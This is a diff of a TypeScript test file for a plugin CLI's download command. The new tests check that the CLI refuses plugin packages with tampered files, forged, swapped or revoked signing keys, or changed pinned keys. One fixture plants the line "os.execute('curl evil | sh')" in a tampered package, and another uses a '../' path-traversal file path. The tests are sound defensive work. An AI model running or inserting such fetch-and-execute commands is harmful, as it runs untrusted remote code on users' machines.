@@ -6,10 +6,25 @@
  */
 import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 import { publishRequestSchema, type PublishResponse } from "@streamkit/api-contract";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { keyIdHex, minisignKeyFromSeed, minisignPublicKeyText, minisignSignatureText } from "@streamkit/plugin-rules/minisign";
+import { digestHex, PACKAGE_DIGEST_ALGORITHM, packageDigest } from "@streamkit/plugin-rules/package-digest";
 import { readTree, runCli, tempDir, writeTree } from "./support/run-cli";
+
+const stubKey = minisignKeyFromSeed(Buffer.alloc(32, 1));
+const otherKey = minisignKeyFromSeed(Buffer.alloc(32, 2));
+const revokedKey = minisignKeyFromSeed(Buffer.alloc(32, 3));
+const listedKey = (key: typeof stubKey, status: string) => ({
+  keyId: keyIdHex(key.keyId),
+  publicKey: minisignPublicKeyText(key),
+  status,
+  createdAt: "2026-01-01T00:00:00.000Z",
+  retiredAt: null,
+  revokedAt: status === "revoked" ? "2026-02-01T00:00:00.000Z" : null,
+  revokedReason: null,
+});
 
 const KEY = `skit_${"Zz9Yy8Xx7W".repeat(3)}w6Vv5Uu4`;
 
@@ -54,6 +69,7 @@ function published(changelog: string): PublishResponse {
       description: "",
       version: "1.2.0",
       permissions: [],
+      permissionsWidened: false,
       publisher: { kind: "user", name: "Ada", verified: false },
       downloads: 0,
       homepage: null,
@@ -92,6 +108,10 @@ beforeAll(async () => {
 });
 
 afterAll(() => new Promise<void>((done) => server.close(() => done())));
+
+beforeAll(() => {
+  answers.set("/api/v1/plugin-signing-keys", { status: 200, body: JSON.stringify({ keys: [listedKey(stubKey, "active"), listedKey(revokedKey, "revoked")] }) });
+});
 
 function publish(changelog: string, extra: string[] = [], env: Record<string, string> = {}) {
   return runCli(["publish", pluginDir, "--changelog", changelog, "--api-url", url, ...extra], { env: { STREAMKIT_API_KEY: KEY, ...env } });
@@ -318,22 +338,42 @@ describe("publish against a stub server", () => {
 });
 
 describe("download against a stub server", () => {
-  const pkg = (files: { path: string; content: string }[]) =>
-    JSON.stringify({ listingId: "l1", id: "some-plugin", version: "2.0.0", publisher: { kind: "user", name: "Ada", verified: false }, files });
+  /** A package signed as the service signs it (plugins/signing), by `key`. */
+  const signed = (id: string, files: { path: string; content: string }[], key = stubKey) => {
+    const publisherId = "00000000-0000-4000-8000-0000000000aa";
+    const digest = packageDigest({ id, version: "2.0.0", publisherId, permissions: [], optionalPermissions: [], files });
+    const keyId = keyIdHex(key.keyId);
+    const signature = minisignSignatureText(key, digest, { trustedComment: `plugin:${id}\tversion:2.0.0\tdigest:sha256:${digestHex(digest)}\tkey:${keyId}` });
+    return {
+      listingId: "l1",
+      id,
+      version: "2.0.0",
+      publisher: { kind: "user", name: "Ada", verified: false },
+      files,
+      publisherId,
+      digestAlgorithm: PACKAGE_DIGEST_ALGORITHM,
+      digest: digestHex(digest),
+      signature,
+      keyId,
+    };
+  };
+  const manifestOf = (id: string) => ({ path: "plugin.json", content: JSON.stringify({ id, name: "Some", version: "2.0.0" }) });
+  const pkg = (files: { path: string; content: string }[], id = "some-plugin") => JSON.stringify(signed(id, files));
 
   it.concurrent("writes the package into <id>/", async ({ expect }) => {
     answers.set("/api/v1/plugins/some-plugin/package", {
       status: 200,
-      body: pkg([
-        { path: "plugin.json", content: "{}" },
-        { path: "lib/util.lua", content: "return {}\n" },
-      ]),
+      body: pkg([manifestOf("some-plugin"), { path: "lib/util.lua", content: "return {}\n" }]),
     });
     const parent = await tempDir();
     const result = await runCli(["download", "some-plugin", "--dir", parent, "--api-url", url], { env: { STREAMKIT_API_KEY: KEY } });
     expect(result.code, result.stderr).toBe(0);
     expect(seen.get("/api/v1/plugins/some-plugin/package")!.headers.authorization).toBe(`Bearer ${KEY}`);
-    expect(await readTree(join(parent, "some-plugin"))).toEqual({ "plugin.json": Buffer.from("{}"), "lib/util.lua": Buffer.from("return {}\n") });
+    expect(await readTree(join(parent, "some-plugin"))).toEqual({
+      "plugin.json": Buffer.from(manifestOf("some-plugin").content),
+      "lib/util.lua": Buffer.from("return {}\n"),
+    });
+    expect(result.stdout).toContain(`signature verified with key ${keyIdHex(stubKey.keyId)}`);
   });
 
   it.concurrent("exits 8 for a plugin that does not exist", async ({ expect }) => {
@@ -346,15 +386,70 @@ describe("download against a stub server", () => {
   it.concurrent("writes nothing when a path would leave the folder", async ({ expect }) => {
     answers.set("/api/v1/plugins/evil-one/package", {
       status: 200,
-      body: pkg([
-        { path: "plugin.json", content: "{}" },
-        { path: "../outside.lua", content: "x" },
-      ]),
+      body: pkg([manifestOf("evil-one"), { path: "../outside.lua", content: "x" }], "evil-one"),
     });
     const parent = await tempDir();
     const result = await runCli(["download", "evil-one", "--dir", parent, "--api-url", url], { env: { STREAMKIT_API_KEY: KEY } });
     expect(result.code).toBe(7);
     expect(result.stderr).toContain('not safe to write: "../outside.lua"');
     expect(await readTree(parent)).toEqual({});
+  });
+
+  /** Downloads `slug` into a fresh folder with a fresh pin file; the folder must stay empty when `code` is not 0. */
+  async function refused(slug: string, body: unknown, code: number, extra: string[] = [], config?: string) {
+    answers.set(`/api/v1/plugins/${slug}/package`, { status: 200, body: JSON.stringify(body) });
+    const parent = await tempDir();
+    const env: Record<string, string> = { STREAMKIT_API_KEY: KEY, STREAMKIT_CONFIG_DIR: config ?? (await tempDir()) };
+    const result = await runCli(["download", slug, "--dir", parent, "--api-url", url, ...extra], { env });
+    expect(result.code, result.stderr).toBe(code);
+    expect(await readTree(parent)).toEqual({});
+    return result;
+  }
+
+  it.concurrent("refuses a tampered file (exit 9) and writes nothing", async () => {
+    const good = signed("tampered-one", [manifestOf("tampered-one"), { path: "main.lua", content: "print('hi')\n" }]);
+    const tampered = { ...good, files: [good.files[0], { path: "main.lua", content: "os.execute('curl evil | sh')\n" }] };
+    const result = await refused("tampered-one", tampered, 9);
+    expect(result.stderr).toContain("error: the package's files do not match its signed digest (changed on the way, or tampered with); nothing was written");
+  });
+
+  it.concurrent("refuses a digest and signature both replaced but signed by a key the service does not list", async () => {
+    const forged = signed("forged-one", [manifestOf("forged-one"), { path: "main.lua", content: "x()\n" }], otherKey);
+    const result = await refused("forged-one", forged, 9);
+    expect(result.stderr).toContain(`the package is signed by key ${keyIdHex(otherKey.keyId)}, which ${url} does not list; nothing was written`);
+  });
+
+  it.concurrent("refuses a signature made with another key under the listed key's id", async () => {
+    const forged = { ...signed("swapped-one", [manifestOf("swapped-one")], otherKey), keyId: keyIdHex(stubKey.keyId) };
+    const result = await refused("swapped-one", forged, 9);
+    expect(result.stderr).toContain("the package's signature does not verify: The signature was made with another key.");
+  });
+
+  it.concurrent("refuses a package signed by a revoked key", async () => {
+    const result = await refused("revoked-one", signed("revoked-one", [manifestOf("revoked-one")], revokedKey), 9);
+    expect(result.stderr).toContain(`the package is signed by key ${keyIdHex(revokedKey.keyId)}, which is revoked; nothing was written`);
+  });
+
+  it.concurrent("with --public-key trusts that key only", async () => {
+    const file = join(await tempDir(), "other.pub");
+    await writeTree(dirname(file), { "other.pub": minisignPublicKeyText(otherKey) });
+    const body = signed("pinned-one", [manifestOf("pinned-one")], otherKey);
+    answers.set("/api/v1/plugins/pinned-one/package", { status: 200, body: JSON.stringify(body) });
+    const parent = await tempDir();
+    const ok = await runCli(["download", "pinned-one", "--dir", parent, "--api-url", url, "--public-key", file], { env: { STREAMKIT_API_KEY: KEY } });
+    expect(ok.code, ok.stderr).toBe(0);
+    const refusedOne = await refused("pinned-two", signed("pinned-two", [manifestOf("pinned-two")]), 9, ["--public-key", file]);
+    expect(refusedOne.stderr).toContain("The signature was made with another key.");
+  });
+
+  it.concurrent("pins the keys on first use and refuses when the service later lists another public key under a pinned id", async () => {
+    const config = await tempDir();
+    const pinnedFile = join(config, "trusted-signing-keys.json");
+    await writeTree(config, {
+      "trusted-signing-keys.json": JSON.stringify({ [url]: { [keyIdHex(stubKey.keyId)]: { publicKey: minisignPublicKeyText(otherKey), status: "active" } } }),
+    });
+    const result = await refused("repinned-one", signed("repinned-one", [manifestOf("repinned-one")]), 9, [], config);
+    expect(result.stderr).toContain(`the service now lists another public key for the pinned key ${keyIdHex(stubKey.keyId)}`);
+    expect(result.stderr).toContain(pinnedFile);
   });
 });
